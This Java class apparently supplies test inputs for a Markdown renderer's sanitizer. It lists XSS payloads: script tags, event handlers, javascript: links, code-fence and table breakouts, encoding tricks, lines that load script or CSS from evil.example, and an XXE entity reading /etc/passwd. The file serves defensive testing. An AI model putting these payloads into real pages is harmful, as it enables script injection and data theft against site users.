package journal.markdown;

import java.util.List;
import java.util.stream.Stream;

/** Texts that try to run a script in the pages of others: from OWASP's cheat sheets, and in Markdown's own ways. */
final class Attacks {
    private static final List<String> HTML = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1)//<</script>",
            "<script\n>alert(1)</script\n>",
            "<script/x>alert(1)</script>",
            "</p><script>alert(1)</script><p>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"/pictures/a.png\" onload=\"alert(1)\">",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<img src=`javascript:alert(1)`>",
            "<img/src=\"x\"/onerror=\"alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"javascript:alert(1)\"><input type=submit></form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a onmouseover=alert(1)>x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<textarea><script>alert(1)</script></textarea>",
            "</article></main><form action=//evil.example>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><?php echo 1 ?>",
            "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
            "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;img src=x onerror=alert(1)&#x3e;",
            "&amp;lt;script&amp;gt;alert(1)",
            "\\<script>alert(1)\\</script>",
            "<script>\n\n*alert*(1)\n\n</script>",
            "<div>\n\n[x](javascript:alert(1))\n\n</div>",
            "<a href=\"\n\nx onclick=alert(1)\n\n\">");
    private static final List<String> CODE = List.of(
            "```\"onclick=alert(1)\nx\n```",
            "```js\"><script>alert(1)</script>\nx\n```",
            "```x onclick=alert(1) class=y\nx\n```",
            "~~~ </code></pre><script>alert(1)</script>\nx\n~~~",
            "``` &quot;onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
            "    </code></pre><script>alert(1)</script>",
            "`</code><script>alert(1)</script>`",
            "`<img src=x onerror=alert(1)>`");
    private static final List<String> BLOCKS = List.of(
            "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
            "| [x](javascript:alert(1)) |\n|:--\" onclick=\"alert(1)|\n| x |",
            "| a |\n|:-:|\n| </td></table><script>alert(1)</script> |",
            "| `a|<script>` |\n|---|\n| \\|<script> |",
            "- [x] <script>alert(1)</script>",
            "- [ ] [x](javascript:alert(1))",
            "1\" onclick=\"alert(1). x",
            "999999999. x",
            "x[^1]\n\n[^1]: <script>alert(1)</script>",
            "x[^1]\n\n[^1]: [x](javascript:alert(1))",
            "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
            "x[^<script>]\n\n[^<script>]: x",
            "x[^1]\n\n[^1]: </li></ol><script>alert(1)</script>",
            "[x[^1]](https://example.org)\n\n[^1]: x[^1] [^2]\n[^2]: y[^1]",
            "# <script>alert(1)</script>",
            "# x {#id onclick=alert(1)}",
            "<script>alert(1)</script>\n===",
            "> <script>alert(1)</script>",
            "~~<script>alert(1)</script>~~",
            "*x <b onclick=alert(1)>*</b>");
    private static final List<String> LETTERS = List.of(
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)} #{alert(1)} <%= alert(1) %>",
            "\u0000<script>alert(1)</script>",
            "<\u0000script>alert(1)</script>",
            "&#0;&#1;&#8;&#xB;&#127;&#128;&#xFFFE;&#xFFFF;&#xD800;&#x110000;",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\u2028<script>alert(1)</script>\u2029",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
            "\uD800<script>\uDC00");

    private Attacks() {
    }

    static Stream<String> all() {
        return Stream.concat(AddressAttacks.all(), Stream.of(HTML, CODE, BLOCKS, LETTERS).flatMap(List::stream));
    }
}
